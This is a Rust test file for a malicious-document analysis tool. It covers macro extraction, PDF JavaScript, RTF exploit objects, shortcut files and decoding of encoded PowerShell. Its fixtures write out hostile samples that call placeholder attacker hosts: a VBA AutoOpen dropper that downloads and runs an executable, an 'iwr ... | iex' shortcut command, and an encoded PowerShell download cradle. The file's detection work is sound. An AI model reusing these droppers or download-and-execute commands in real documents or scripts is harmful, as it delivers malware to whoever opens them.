use serde_json::json;

use super::*;

#[path = "../../tests/docbuild/mod.rs"]
mod docbuild;

const DROPPER: &str = "Sub AutoOpen()\r\n\
    Dim s As String\r\n\
    s = StrReverse(\"exe.daolnwod\") & Chr(46)\r\n\
    Set sh = CreateObject(\"WScript.Shell\")\r\n\
    URLDownloadToFileA 0, \"http://dl.badhost.example.com/p.exe\", \"C:\\Users\\Public\\p.exe\", 0, 0\r\n\
    sh.Run \"cmd /c C:\\Users\\Public\\p.exe\", 0\r\n\
End Sub\r\n";

#[test]
fn ovba_round_trip_including_copy_tokens() {
    let mut src = Vec::new();
    for i in 0..2000 {
        src.extend_from_slice(format!("Line {i} repeated text repeated text\r\n").as_bytes());
    }
    let c = docbuild::ovba_compress(&src);
    // Literal-only output would be 1/8 larger than the input.
    assert!(c.len() < src.len(), "copy tokens were used");
    let (d, err) = vba::decompress(&c);
    assert_eq!(err, None);
    assert_eq!(d, src);
    // Truncations never panic and keep a prefix.
    for cut in [0, 1, 2, 3, 10, c.len() / 2, c.len() - 1] {
        let (d, _) = vba::decompress(&c[..cut]);
        assert!(src.starts_with(&d[..d.len().min(src.len())]));
    }
}

#[test]
fn word97_macros_are_extracted_with_olevba_flags() {
    let doc = docbuild::word97_with_macros(&[
        (
            "ThisDocument",
            "Private Sub Document_Open()\r\n  AutoOpen\r\nEnd Sub\r\n",
        ),
        ("Module1", DROPPER),
    ]);
    let f = analyze(&doc, "x.doc");
    let office = &f.sections["office"];
    assert_eq!(office["Metadata"]["HasMacros"], "Yes");
    assert_eq!(office["Metadata"]["DocumentType"], "Word Document");
    let code = &office["Macro"]["Code"];
    assert_eq!(code["Macro1"][0][0], "ThisDocument.cls");
    assert_eq!(code["Macro2"][0][0], "Module1.bas");
    assert_eq!(
        code["Macro2"][0][1],
        DROPPER.trim_end().replace("\r\n", "\n"),
        "source decompressed, Attribute lines gone, olevba's line breaks"
    );
    let analysis = &office["Macro"]["Analysis"];
    let kws = |k: &str| -> Vec<String> {
        analysis[k]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p[0].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(kws("AutoExec"), ["AutoOpen", "Document_Open"]);
    let sus = kws("Suspicious");
    for k in [
        "StrReverse",
        "Chr",
        "CreateObject",
        "WScript_Shell",
        "URLDownloadToFileA",
        "Run",
    ] {
        assert!(sus.contains(&k.to_owned()), "{k} in {sus:?}");
    }
    assert!(
        f.iocs
            .urls
            .contains(&"http://dl.badhost.example.com/p.exe".to_owned())
    );
    assert!(
        f.iocs
            .domains
            .contains(&"dl.badhost.example.com".to_owned())
    );
    assert!(
        f.iocs
            .file_paths
            .contains(&"C:\\Users\\Public\\p.exe".to_owned())
    );
    assert!(f.errors.is_empty(), "{:?}", f.errors);
}

#[test]
fn docm_macros_template_injection_and_embedded_package() {
    let doc = docbuild::docm(
        &[("Module1", DROPPER)],
        "https://templates.evil.example.net/t.dotm?a=1&b=2",
    );
    let f = analyze(&doc, "x.docm");
    let office = &f.sections["office"];
    assert_eq!(office["Metadata"]["DocumentType"], "Word Document");
    assert_eq!(
        office["Macro"]["Code"]["Macro1"][0][1],
        DROPPER.trim_end().replace("\r\n", "\n")
    );
    let ext = office["ExternalRelationships"].as_array().unwrap();
    assert_eq!(ext.len(), 1);
    assert_eq!(ext[0]["type"], "attachedTemplate");
    assert_eq!(
        ext[0]["target"],
        "https://templates.evil.example.net/t.dotm?a=1&b=2"
    );
    assert_eq!(ext[0]["suspicious"], true);
    assert!(
        f.iocs
            .domains
            .contains(&"templates.evil.example.net".to_owned())
    );
    let emb = office["EmbeddedObjects"].as_array().unwrap();
    let pkg = emb
        .iter()
        .find(|e| e["filename"] == "invoice.exe")
        .expect("package");
    assert_eq!(pkg["size"], 11);
    assert_eq!(pkg["source_path"], "C:\\Users\\a\\Desktop\\invoice.exe");
    assert!(
        f.iocs
            .file_paths
            .contains(&"C:\\Users\\a\\Desktop\\invoice.exe".to_owned())
    );
}

#[test]
fn pdf_keywords_javascript_and_uris() {
    let pdf = docbuild::pdf_with_js(
        "app.alert('x'); this.submitForm('http://js.evil.example.org/c');",
        "http://link.example.com/landing",
    );
    let f = analyze(&pdf, "a.pdf");
    let p = &f.sections["pdf"];
    assert_eq!(p["Info"]["PDF Header"], "%PDF-1.7");
    assert_eq!(p["Keywords"]["obj"], 6);
    assert_eq!(p["Keywords"]["endobj"], 6);
    assert_eq!(p["Keywords"]["stream"], 1);
    assert_eq!(p["Keywords"]["/Page"], 1);
    assert_eq!(p["Keywords"]["/OpenAction"], 1);
    assert_eq!(p["Keywords"]["/JS"], 1);
    assert_eq!(p["Keywords"]["/JavaScript"], 1, "#61 decoded");
    assert_eq!(p["HexcodeKeywords"]["/JavaScript"], 1);
    assert_eq!(p["Keywords"]["/URI"], 2);
    assert_eq!(p["Info"]["Count %% EOF"], 1);
    let js = &p["JSStreams"][0];
    assert_eq!(js["Object ID"], 4);
    assert!(js["Data"].as_str().unwrap().contains("submitForm"));
    assert_eq!(p["JS_URLs"], json!(["http://js.evil.example.org/c"]));
    assert_eq!(p["Annot_URLs"], json!(["http://link.example.com/landing"]));
    assert!(f.iocs.domains.contains(&"js.evil.example.org".to_owned()));
    assert!(f.errors.is_empty(), "{:?}", f.errors);
}

#[test]
fn rtf_objects_and_cves() {
    let doc = docbuild::rtf_with_object("Equation.3", b"\x1c\x00\x00\x00\x02\x00\xde\xad");
    let f = analyze(&doc, "a.rtf");
    let o = &f.sections["rtf"]["objects"][0];
    assert_eq!(o["class_name"], "Equation.3");
    assert_eq!(o["type_embed"], "Embedded");
    assert_eq!(o["size"], 8);
    assert!(o["CVE"].as_str().unwrap().contains("CVE-2017-11882"));
    let doc = docbuild::rtf_with_object("OLE2Link", b"http://x.evil.example.com/a.hta\x00");
    let f = analyze(&doc, "a.rtf");
    assert!(
        f.sections["rtf"]["objects"][0]["CVE"]
            .as_str()
            .unwrap()
            .contains("CVE-2017-0199")
    );
    assert!(
        f.iocs
            .urls
            .contains(&"http://x.evil.example.com/a.hta".to_owned())
    );
}

#[test]
fn lnk_target_arguments_working_dir() {
    let d = docbuild::lnk(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "-w hidden -c iwr http://ps.evil.example.com/a.ps1|iex",
        "C:\\Windows\\Temp",
    );
    let f = analyze(&d, "a.lnk");
    let l = &f.sections["lnk"];
    assert_eq!(
        l["target_path"],
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    );
    assert_eq!(
        l["cmdline"],
        "-w hidden -c iwr http://ps.evil.example.com/a.ps1|iex"
    );
    assert_eq!(l["workingdir"], "C:\\Windows\\Temp");
    assert_eq!(l["flags"]["cmdline"], true);
    assert_eq!(l["attrs"], json!(["archive"]));
    assert!(
        f.iocs
            .urls
            .contains(&"http://ps.evil.example.com/a.ps1".to_owned())
    );
    assert!(f.errors.is_empty(), "{:?}", f.errors);
}

#[test]
fn powershell_encoded_command_is_decoded() {
    let inner = "IEX (New-Object Net.WebClient).DownloadString('http://enc.evil.example.com/s')";
    let b64 = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        inner
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>(),
    );
    let bat = format!("@echo off\r\npowershell -nop -w hidden -enc {b64}\r\n");
    let f = analyze(bat.as_bytes(), "run.bat");
    let s = &f.sections["script"];
    assert_eq!(s["language"], "batch");
    assert_eq!(s["decoded"][0]["text"], inner);
    assert!(
        f.iocs
            .urls
            .contains(&"http://enc.evil.example.com/s".to_owned())
    );
    let ps = format!("$x = 'a'; powershell.exe -EncodedCommand {b64}");
    let f = analyze(ps.as_bytes(), "a.ps1");
    assert_eq!(f.sections["script"]["decoded"][0]["text"], inner);
    let sus = f.sections["script"]["suspicious"].to_string();
    assert!(sus.contains("-encodedcommand"), "{sus}");
}

#[test]
fn unknown_files_give_nothing() {
    let f = analyze(b"\x7fELF\x02\x01\x01 not a document", "a.bin");
    assert!(f.sections.is_empty() && f.errors.is_empty());
}

/// Every parser on truncated and bit-flipped versions of valid documents: no panic, and a
/// damaged document yields a section or an error.
#[test]
fn damaged_documents_end_in_a_section_or_an_error() {
    let docs = [
        (
            docbuild::word97_with_macros(&[("Module1", DROPPER)]),
            "a.doc",
        ),
        (
            docbuild::docm(&[("Module1", DROPPER)], "http://t.example.com/t"),
            "a.docm",
        ),
        (
            docbuild::pdf_with_js("app.alert(1)", "http://u.example.com"),
            "a.pdf",
        ),
        (
            docbuild::rtf_with_object("Package", b"\x02\x00a.exe\x00"),
            "a.rtf",
        ),
        (docbuild::lnk("C:\\a.exe", "x", "C:\\"), "a.lnk"),
    ];
    for (doc, name) in &docs {
        for cut in (0..doc.len()).step_by((doc.len() / 40).max(1)) {
            let f = analyze(&doc[..cut], name);
            let _ = serde_json::to_string(&f.sections).unwrap();
        }
        let mut state = 0x9e37_79b9_7f4a_7c15u64;
        for _ in 0..200 {
            let mut d = doc.clone();
            for _ in 0..8 {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                let i = (state as usize) % d.len();
                d[i] ^= (state >> 32) as u8 | 1;
            }
            let _ = analyze(&d, name);
        }
    }
    // A truncated compound file is reported.
    let doc = &docs[0].0;
    let f = analyze(&doc[..600], "a.doc");
    assert!(!f.errors.is_empty());
    assert!(f.sections.contains_key("office"));
}
